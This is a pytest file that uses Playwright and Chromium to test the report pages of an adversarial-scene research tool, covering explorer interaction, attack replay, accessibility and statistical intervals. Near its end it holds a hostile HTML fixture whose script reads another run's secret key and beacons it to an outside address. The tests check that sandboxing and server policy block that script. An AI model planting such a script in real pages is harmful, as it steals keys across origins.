"""The pages in a real browser: what they do, that they ask nobody, and that everybody can use them."""

from __future__ import annotations

import io
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
from PIL import Image

from advsearch.questions.attack.settings import AttackConfig
from advsearch.questions.sweep.page import write_bundle
from advsearch.registry import EXPERIMENTS
from advsearch.runs.directory import RunDirectory
from advsearch.runs.results import Result
from advsearch.runs.store import CachedEvaluation, Row, Store
from advsearch.viewer.document import read_asset
from advsearch.viewer.pages import write_page
from covering import once_each
from samples import (
    CURVE,
    EXPLAIN,
    HARDEN,
    RECIPE,
    REGION,
    REPLAY,
    STABILITY,
    curve,
    keep_object,
    make_run,
    matrix,
    written_page,
)
from samples import attack as attack_with
from stored_sweeps import described, make_sweep, serving

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

Open = Callable[..., Any]

PLANNED: dict[str, Any] = {
    "control": "geometry", "parameter": "amplitudes", "size": 24, "estimator": "material", "valid": ["material"],
    "step": 0.05, "step_reason": "an outline moves, and the picture with it, so that it has to be wide",
    "reason": "preferred among material, differences; not measured", "variance_x_seconds": {},
    "step_in_unit": 0.1, "unit": "object sizes",
}  # fmt: skip
"""A parameter of a gradient plan that says much."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    playwright = pytest.importorskip("playwright.sync_api", reason="no playwright here: make setup installs it")
    if CHROMIUM is None:
        pytest.skip("there is no Chromium here: apt-get install chromium")
    with playwright.sync_playwright() as started:
        drawing = ["--use-gl=angle", "--use-angle=swiftshader", "--enable-unsafe-swiftshader"]
        camera = ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"]
        running = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", *drawing, *camera])
        yield running
        running.close()


@contextmanager
def opened(browser: Browser, address: str, width: int = 1440, **settings: Any) -> Iterator[Page]:
    """An open page; fails where it complains, or asks anybody but the server that it came from."""
    context = browser.new_context(viewport={"width": width, "height": 900}, **settings)
    context.set_default_timeout(120_000.0)
    page = context.new_page()
    complaints: list[str] = []
    origin = address[: address.index("/", 8)]
    page.on("console", lambda one: complaints.append(one.text) if one.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("request", lambda one: None if one.url.startswith((origin, "data:")) else complaints.append(one.url))
    page.goto(address)
    try:
        yield page
        assert complaints == []
    finally:
        context.close()


@pytest.fixture(scope="module")
def sweep(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_sweep(tmp_path_factory.mktemp("runs") / "first", keep="all")


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Path:
    plan = {"renders_per_gradient": 0, "spp": None, "groups": [PLANNED]}
    run = make_run(tmp_path_factory.mktemp("runs") / "attack", attack_with(gradient_plan=plan))
    keep_object(run)
    written_page(run)
    return run


def until(page: Page, happened: Callable[[], object]) -> None:
    """Wait until something has happened; the page's policy lets Playwright's own waiting run no code in it."""
    for _ in range(2_000):  # 100 seconds: others may keep the machine busy
        if happened():
            return
        page.wait_for_timeout(50)
    raise AssertionError("it did not happen")


def width_of_first_picture(page: Page) -> object:
    """Pixels across of the first card's picture; False until it has arrived: cards are made anew with each choice."""
    return page.locator(".card img").first.evaluate("image => image.complete && image.naturalWidth")


class QuietHandler(SimpleHTTPRequestHandler):
    """Serves a folder as any server would, and says nothing of it."""

    def log_message(self, format: str, *args: Any) -> None:
        """Keep quiet."""


def explored(page: Page) -> None:
    """Try everything that the explorer has."""
    page.wait_for_selector("[data-cell]")
    assert page.locator("[data-cell]").count() == 6  # three yaws, two elevations
    assert "24 configurations" in page.locator("#explorer .status").inner_text()
    said = page.locator("#explorer").inner_text()
    assert "camera.elevation [degrees]" in said and "light.power" in said and "[1]" not in said
    worst = page.locator('[data-cell="0,1,2"]')
    assert "pose.yaw 90: right in 2 of 4 (50\xa0%, 7\xa0% to 93\xa0%)" in str(worst.get_attribute("aria-label"))

    worst.hover()
    until(page, lambda: page.locator(".peek img").count() == 4)
    assert "right in 2 of 4" in page.locator(".peek").inner_text()
    assert page.locator(".card").count() == 24  # what is below stays as it is
    page.locator("h1").hover()
    until(page, lambda: not page.locator(".peek").is_visible())

    worst.click()
    assert page.locator('[data-cell="0,1,2"]').get_attribute("aria-pressed") == "true"
    page.get_by_label("Show", exact=True).select_option("wrong")
    assert page.locator(".card").count() == 2
    mark = page.locator(".card.wrong strong").first
    until(page, lambda: mark.inner_text().strip() == "✗")  # a card has no text until a frame has shown it
    page.locator(".card").first.click()
    assert "camera.elevation [degrees]" in page.locator("dialog").inner_text()
    first = page.locator("dialog").get_attribute("aria-label")
    page.get_by_role("button", name="Next").click()
    assert page.locator("dialog").get_attribute("aria-label") != first
    assert "2 of 2" in page.locator("dialog").inner_text()
    page.keyboard.press("ArrowLeft")
    assert page.locator("dialog").get_attribute("aria-label") == first
    assert page.locator("dialog").evaluate("one => one.scrollTop") == 0  # its picture is seen whole
    page.get_by_role("button", name="Close").click()
    page.locator("h1").hover()  # away from the cells

    page.locator("#parameter-0").select_option("one value")  # environment
    assert page.locator("#explorer .status").inner_text().startswith("12 of 24 configurations")
    page.locator("#parameter-0-value").fill("1")
    assert page.locator("output").inner_text() == "studio"
    assert page.locator(".card").count() == 0  # nothing is wrong in the studio

    address = page.url
    assert "at.environment=studio" in address
    page.goto("about:blank")
    page.goto(address)
    page.wait_for_selector("[data-cell]")
    assert page.locator("output").inner_text() == "studio"
    assert page.get_by_label("Show", exact=True).input_value() == "wrong"
    page.locator("#parameter-0").select_option("all values")
    page.get_by_label("Side by side").select_option("environment")
    assert page.locator("figure.map").count() == 2
    page.locator("#parameter-0").select_option("up")
    assert page.locator("figure.map").count() == 1
    assert page.locator("table.map th[scope=row]").all_inner_texts() == ["studio", "noon"]


def test_a_sweep_is_explored_from_its_file_and_from_the_server(browser: Browser, sweep: Path) -> None:
    with opened(browser, (sweep / "report.html").as_uri()) as page:
        explored(page)
        assert str(page.locator(".card img").first.get_attribute("src")).startswith("data:image/jpeg")
    with serving(sweep) as server, opened(browser, f"{server.address}runs/first/") as page:
        explored(page)
        until(page, lambda: width_of_first_picture(page) == 16)


def test_a_sweep_is_explored_from_a_folder_that_any_server_serves(
    browser: Browser, sweep: Path, tmp_path: Path
) -> None:
    index = write_bundle([sweep], tmp_path / "site")
    with opened(browser, index.as_uri()) as page:  # as a double click does
        explored(page)
        until(page, lambda: width_of_first_picture(page) == 16)
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(QuietHandler, directory=str(tmp_path / "site"))) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        thread.start()
        with opened(browser, f"http://127.0.0.1:{server.server_port}/") as page:
            explored(page)
            until(page, lambda: width_of_first_picture(page) == 16)
        server.shutdown()
        thread.join()


def test_sweeps_stand_side_by_side(browser: Browser, sweep: Path, tmp_path: Path) -> None:
    with serving(sweep, make_sweep(tmp_path / "second")) as server, opened(browser, server.address) as page:
        page.get_by_label("compare first").check()
        page.get_by_label("compare second").check()
        page.get_by_role("button").click()
        page.wait_for_selector("[data-cell]")
        assert page.get_by_label("Side by side").input_value() == "run"
        assert page.locator("figure.map").count() == 2
        titles = [one.partition(":")[0] for one in page.locator("figure.map figcaption").all_inner_texts()]
        assert sorted(titles) == ["run first", "run second"]
        assert "48 configurations" in page.locator("#explorer .status").inner_text()
        page.get_by_label("Side by side").select_option("")
        page.reload()
        page.wait_for_selector("[data-cell]")
        assert page.locator("figure.map").count() == 1  # as the address says
        page.get_by_role("link", name="All runs").click()
        page.wait_for_selector("table.runs tbody tr")
        assert page.locator("table.runs tbody tr").count() == 2


def test_a_sweep_that_goes_on_is_followed(browser: Browser, tmp_path: Path) -> None:
    run = make_sweep(tmp_path / "going", ended=False)
    with Store(run / "results.sqlite", read_only=True) as store:
        last = list(store.rows())[-1]
    with serving(run) as server, RunDirectory.resume(run) as held:
        with opened(browser, f"{server.address}runs/going/") as page:
            page.wait_for_selector("[data-cell]")
            held.append_rows(Row("sweep", 24, correct=False, margin=9.0, label="vase", values=last.values))
            until(page, lambda: "vase" in page.locator(".gallery").inner_text())


def test_an_attack_that_goes_on_is_followed_step_by_step(browser: Browser, tmp_path: Path) -> None:
    path = tmp_path / "going"

    def evaluated(run: RunDirectory, number: int) -> None:
        told = CachedEvaluation(number, b"", 0, 1, picture=np.full((8, 8, 3), 25 * number, np.uint8))
        values = {"pose.yaw": described(10.0 * number, "degrees")}
        label = "vase" if number > 5 else "mug"
        run.append_rows(Row("search", number, objective=float(number), label=label, values=values), cached=told)

    with RunDirectory.create_for(AttackConfig(object="mug", run=str(path))) as run, serving(path) as server:
        for number in range(5):
            evaluated(run, number)
        with opened(browser, f"{server.address}runs/going/", 390) as page:
            page.wait_for_selector("#follow img")
            status = page.locator("#search .status")
            assert status.inner_text() == "step 4, objective 4.00, prediction mug"
            evaluated(run, 6 - 1)
            evaluated(run, 6)
            until(page, lambda: status.inner_text() == "step 6, objective 6.00, prediction vase")
            assert "pose.yaw\t60 degrees" in page.locator("#follow table").inner_text()
            assert "objective over 7 steps" in str(page.locator("svg.along").get_attribute("aria-label"))
            page.get_by_label("step of the search").fill("2")
            evaluated(run, 7)
            until(page, lambda: "8 of search" in page.locator("#state").inner_text())
            # whoever looks back is not interrupted
            assert status.inner_text() == "step 2, objective 2.00, prediction mug"
            page.get_by_role("button", name="Play").click()
            until(page, lambda: status.inner_text().startswith("step 4"))
            page.get_by_role("button", name="Stop").click()
            stopped = status.inner_text()
            page.wait_for_timeout(400)
            assert status.inner_text() == stopped
            (path / "report.html").write_text("<link rel=icon href=data:,><h1>what came out</h1>")
            run.store.delete_cached()
            until(page, lambda: page.locator("h1").inner_text() == "what came out")


def test_an_attack_is_compared_and_played(browser: Browser, attack: Path) -> None:
    with opened(browser, (attack / "report.html").as_uri()) as page:
        slider = page.get_by_label("where the clean picture ends")
        slider.fill("20")
        assert page.locator(".stage").evaluate("stage => stage.style.getPropertyValue('--shown')") == "20%"
        shown = page.locator(".stage .over").evaluate("one => getComputedStyle(one).clipPath")
        assert shown == "inset(0px 0px 0px 20%)"  # clean on the left, as the slider's ends say
        step = page.get_by_label("step of the search")
        step.fill("0")
        first = page.locator("#search img").get_attribute("src")
        page.get_by_role("button", name="Play").click()
        until(page, lambda: page.locator("#search .status").inner_text() == "the adversarial scene")
        assert page.locator("#search img").get_attribute("src") != first


def picture_of(page: Page) -> Any:
    """What the canvas of the object shows within the ring of the focus, (H, W, 3)."""
    page.wait_for_timeout(100)  # painted with the next frame
    shot = Image.open(io.BytesIO(page.locator("#object canvas").screenshot())).convert("RGB")
    return np.asarray(shot, dtype=float)[8:-8, 8:-8]


def test_an_object_is_turned(browser: Browser, attack: Path) -> None:
    with opened(browser, (attack / "report.html").as_uri()) as page:
        page.wait_for_selector("#object canvas")
        canvas = page.locator("#object canvas")
        first = picture_of(page)
        assert first.std() > 20.0  # black and white squares, and what is behind

        page.get_by_role("button", name="Clean").click()
        assert page.get_by_role("button", name="Clean").get_attribute("aria-pressed") == "true"
        clean = picture_of(page)
        assert np.abs(clean - first).mean() > 5.0
        page.get_by_role("button", name="Adversarial").click()
        np.testing.assert_array_equal(picture_of(page), first)

        canvas.focus()
        page.keyboard.press("ArrowRight")
        page.keyboard.press("ArrowUp")
        assert page.locator("#object [role=status]").inner_text().startswith("turned by 10°, seen from ")
        turned = picture_of(page)
        assert np.abs(turned - first).mean() > 2.0
        page.keyboard.press("Home")
        np.testing.assert_array_equal(picture_of(page), first)


@pytest.fixture(scope="module")
def study(tmp_path_factory: pytest.TempPathFactory, attack: Path) -> Path:
    """Accuracy over epsilon, of which the first part is the attack."""
    run = tmp_path_factory.mktemp("runs") / "study"
    rows = [{**CURVE["table"][0], "object": name, "run": f"parts/{name}"} for name in ("mug", "bowl")]
    points = [{**CURVE["curve"][0], "epsilon": epsilon} for epsilon in (0.01, 0.1)]
    shutil.copytree(attack, run / "parts" / "mug")
    write_page(run, curve(table=rows, curve=points, parts=["mug", "bowl"]))
    return run


def faults(page: Page) -> list[str]:
    """What axe-core finds that keeps anybody from using a page as it is now, and whether all of it scrolls sideways."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    found = axe.Axe().run(page).response["violations"]
    serious = [one for one in found if one["impact"] in ("serious", "critical")]
    told = [f"{one['id']}: {one['nodes'][0]['html'][:200]}" for one in serious]
    return told + ([] if page.evaluate("document.scrollingElement.scrollWidth <= innerWidth") else ["it is too wide"])


@once_each("which, scheme, width", ["sweep", "attack", "study"], ["light", "dark"], [390, 1440])
def test_everybody_can_use_the_pages(
    browser: Browser, request: pytest.FixtureRequest, which: str, scheme: str, width: int
) -> None:
    run: Path = request.getfixturevalue(which)
    with opened(browser, (run / "report.html").as_uri(), width, color_scheme=scheme, bypass_csp=True) as page:
        page.wait_for_selector(
            {"sweep": "[data-cell]", "attack": "#object canvas", "study": "svg"}[which], state="attached"
        )
        assert faults(page) == []


STORED = {
    "region": REGION, "explain": EXPLAIN, "harden": HARDEN, "recipe": RECIPE, "replay": REPLAY, "stability": STABILITY
}  # fmt: skip
"""Results of experiments that may not be there, by command."""


@pytest.mark.medium
@pytest.mark.parametrize(
    "result",
    [
        matrix(), curve(),
        *(EXPERIMENTS[name].result.from_values(values) for name, values in STORED.items() if name in EXPERIMENTS),
    ],
    ids=lambda result: type(result).__name__,
)  # fmt: skip
def test_everybody_can_use_the_pages_of_results(browser: Browser, tmp_path: Path, result: Result) -> None:
    (tmp_path / "images").mkdir()
    for name in ("figure-1.png", "harden.png"):  # wider than a phone
        Image.new("RGB", (700, 40)).save(tmp_path / "images" / name)
    with opened(browser, write_page(tmp_path, result).as_uri(), 390, bypass_csp=True, color_scheme="light") as page:
        assert faults(page) == []
        assert not re.search(r"\bNone\b|\bnan\b", page.inner_text("body"))
        page.emulate_media(color_scheme="dark")
        assert faults(page) == []
        page.set_viewport_size({"width": 1440, "height": 900})
        assert page.evaluate("document.scrollingElement.scrollWidth <= innerWidth")


def test_intervals_are_those_of_clopper_and_pearson(browser: Browser, sweep: Path) -> None:
    from advsearch.statistics.intervals import clopper_pearson

    code = read_asset("sweep.js")
    part = code[code.index("  const factorials") : code.index("  function colour")]
    page = browser.new_page()
    for right, count in ((0, 1), (1, 1), (0, 20), (17, 20), (500, 1000), (99_990, 100_000), (0, 1_000_000)):
        mine = page.evaluate(f"(() => {{ {part}; return interval({right}, {count}); }})()")
        assert mine == pytest.approx(clopper_pearson(right, count), abs=2e-7), (right, count)


def test_intervals_over_drives_are_those_of_the_summary(browser: Browser) -> None:
    from advsearch.statistics.clustered import rate_interval

    code = read_asset("sweep.js")
    part, page = code[code.index("  const STAKES") : code.index("  function colour")], browser.new_page()
    for units in ([[5, 5, 3], [2, 5, 1], [0, 5, 2]], [[3, 5, 1], [0, 2, 4]], [[4, 4, 5]], [[0, 3, 2]]):
        right, of = zip(*((right, of) for right, of, times in units for _ in range(times)), strict=True)
        mine = page.evaluate(f"(() => {{ {part}; return intervalOver({units}); }})()")
        assert mine == pytest.approx(rate_interval(right, of), abs=1e-6), units


@pytest.mark.island("advsearch.questions.photographs")
@pytest.mark.medium
def test_a_photograph_is_aligned_taken_and_counted(browser: Browser, tmp_path: Path) -> None:
    """With a camera that isn't there, over HTTPS as a phone has it; and everybody can use the page."""
    from advsearch.questions.photographs.carry_out import Photographs

    run = make_sweep(tmp_path / "first", keep="all")
    settings: dict[str, Any] = {"ignore_https_errors": True, "bypass_csp": True}
    with serving(run, host="0.0.0.0", photographs=Photographs()) as server:
        with opened(browser, server.make_url("/runs/first/align/"), 390, **settings) as page:
            status = page.locator("#align .status")
            until(page, lambda: status.inner_text() == "Rendering 0.")
            assert page.get_by_role("button", name="Take a photograph").is_disabled()
            page.get_by_role("button", name="Open the camera").click()
            until(page, lambda: status.inner_text() == "The camera is open.")
            page.get_by_label("Opacity").fill("80")
            assert page.locator(".camera canvas").evaluate("one => one.style.opacity") == "0.8"
            page.get_by_label("Renderings").fill("7, 2")
            page.get_by_label("Renderings").press("Enter")
            until(page, lambda: status.inner_text() == "Rendering 7, 1 of 2.")
            page.get_by_role("button", name="Next").click()
            until(page, lambda: status.inner_text() == "Rendering 2, 2 of 2.")
            page.get_by_role("button", name="Take a photograph").click()
            until(page, lambda: page.locator(".agreement table").count())
            assert "of 1 photograph:" in page.locator("#agreement").inner_text()
            (photo,) = (run / "images/photos").iterdir()
            assert photo.name == "2-0000.jpg"
            with Image.open(photo) as image:
                assert image.width == image.height > 200  # of the fake camera, in the shape of the rendering
                assert np.ptp(np.asarray(image)) > 100
            page.locator("summary").click()
            assert page.locator(".qr svg").is_visible()
            assert faults(page) == []


HOSTILE = """<!doctype html><html><body><p>a report</p><img id="shown" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<img src="../first/pictures/0000/3.jpg"><iframe src="../first/"></iframe><script>(async () => {
document.title = "ran";
const key = (await (await fetch("../first/align/")).text()).match(/"key": "([^"]+)"/)[1];
await fetch("../first/align/renderings/3", {method: "POST", body: "x", headers: {"X-Advsearch-Key": key}});
new Image().src = "ELSEWHERE" + key; })()</script><form id="form" method="post" action="../first/align/renderings/3">
<input name="x"></form></body></html>"""
"""A page that somebody else put into a run: it would read another run and the key for photographs, and send both."""


def hostile_run(sweep: Path, attack: Path, elsewhere: str) -> Path:
    """A run beside another, with such a page."""
    run = sweep.parent / "hostile"
    if not run.exists():
        shutil.copytree(attack, run)
    (run / "report.html").write_text(HOSTILE.replace("ELSEWHERE", elsewhere))
    return run


def test_the_page_of_somebody_elses_run_reads_and_sends_nothing(browser: Browser, sweep: Path, attack: Path) -> None:
    with serving(sweep) as elsewhere, serving(sweep, hostile_run(sweep, attack, elsewhere.address)) as server:
        context = browser.new_context()
        page, asked = context.new_page(), list[str]()
        page.on("response", lambda one: asked.append(one.url))
        page.goto(f"{server.address}runs/hostile/")
        page.wait_for_timeout(500)
        assert page.title() != "ran"
        assert [one for one in asked if one.startswith("http")] == [f"{server.address}runs/hostile/"]
        assert page.locator("nav .remarks, nav + .remarks").inner_text().startswith("Its scripts are of another")
        # Whatever ran there all the same would have an origin of its own, and be refused by the server as well.
        blocked = page.evaluate("""async () => {
            const tried = [() => fetch("../first/"), () => fetch("../first/rows"), () => fetch("ELSEWHERE"),
                () => fetch("../first/align/renderings/3", {method: "POST", body: "x"}), () => localStorage.length];
            const ends = await Promise.all(tried.map(async (one) => {
                try { await one(); return "done"; } catch { return "refused"; }}));
            document.getElementById("form").submit();
            return [self.origin, ...ends];
        }""".replace("ELSEWHERE", elsewhere.address))  # fmt: skip
        page.wait_for_timeout(300)
        assert blocked == ["null", *["refused"] * 5]
        assert page.url == f"{server.address}runs/hostile/"
        context.close()


def test_without_the_pages_policy_the_server_refuses_it_too(browser: Browser, sweep: Path, attack: Path) -> None:
    """The policies that a browser keeps are switched off: a page of another origin is refused by what it sends."""
    with serving(sweep, hostile_run(sweep, attack, "")) as server:
        context = browser.new_context(bypass_csp=True)
        page = context.new_page()
        page.goto("data:text/html,<p>another origin</p>")
        sent = page.evaluate("""async (there) => Promise.all([
            fetch(there, {mode: "no-cors"}), fetch(there, {method: "POST", mode: "no-cors", body: "x"}),
        ].map((one) => one.then(() => "done", () => "refused")))""", f"{server.address}runs/first/")  # fmt: skip
        assert sent == ["refused", "refused"]  # Cross-Origin-Resource-Policy, which is no policy of the page
        context.close()


def test_our_own_pages_run_with_an_origin_of_their_own(browser: Browser, attack: Path, sweep: Path) -> None:
    """Scripts run, pictures show, and links lead back, where the page has no part of the server's origin."""
    with serving(attack, sweep) as server, opened(browser, f"{server.address}runs/attack/") as page:
        assert page.evaluate("self.origin") == "null"
        assert page.locator(".remarks", has_text="Its scripts are of another").count() == 0
        until(page, lambda: page.locator("#object canvas").count())
        sizes = page.locator("img").evaluate_all("all => all.map((one) => one.complete && one.naturalWidth)")
        assert sizes and all(sizes)
        page.get_by_role("link", name="All runs").click()
        page.wait_for_url(server.address)
        assert page.locator("table.runs tbody tr").count() == 2
